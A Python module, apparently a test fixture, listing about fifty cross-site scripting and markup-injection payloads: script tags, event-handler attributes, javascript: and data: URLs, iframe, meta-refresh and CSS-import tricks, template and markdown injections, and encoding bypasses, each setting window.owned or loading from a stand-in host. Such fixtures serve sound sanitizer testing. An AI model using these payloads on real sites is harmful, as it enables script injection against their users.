"""Texts that would run, load or restyle something if a page took them for markup.

In: nothing. Out: PAYLOADS, each a way in that has worked somewhere. Every one of them tries to
set `window.owned` or to load something from elsewhere.example.
"""

_RUN = "window.owned=1"
_AWAY = "http://elsewhere.example/x"

PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<script src={_AWAY}.js></script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}">',
    f"<img src={_AWAY}.png>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus x='",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<body onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<object data={_AWAY}></object>",
    f"<embed src={_AWAY}>",
    f"<link rel=stylesheet href={_AWAY}.css>",
    "<style>*{display:none!important}</style>",
    f"<style>@import '{_AWAY}.css';</style>",
    f"<div style=\"background:url('{_AWAY}.png')\">x</div>",
    f"<base href={_AWAY}>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<a href=javascript:{_RUN}>press</a>",
    f'<a href="java&#115;cript:{_RUN}">press</a>',
    f"<a href='data:text/html,<script>{_RUN}</script>'>press</a>",
    f"<form action={_AWAY}><button>press</button></form>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    "${" + _RUN + "}",
    "`${" + _RUN + "}`",
    "{{#with this}}{{lookup constructor 'constructor'}}{{/with}}",
    "{{{value}}}<b>x</b>",
    f"[press](javascript:{_RUN})",
    f"![x]({_AWAY}.png)",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\u202e<img src=x onerror={_RUN}>\u202c",
    f"javascript:{_RUN}//",
)
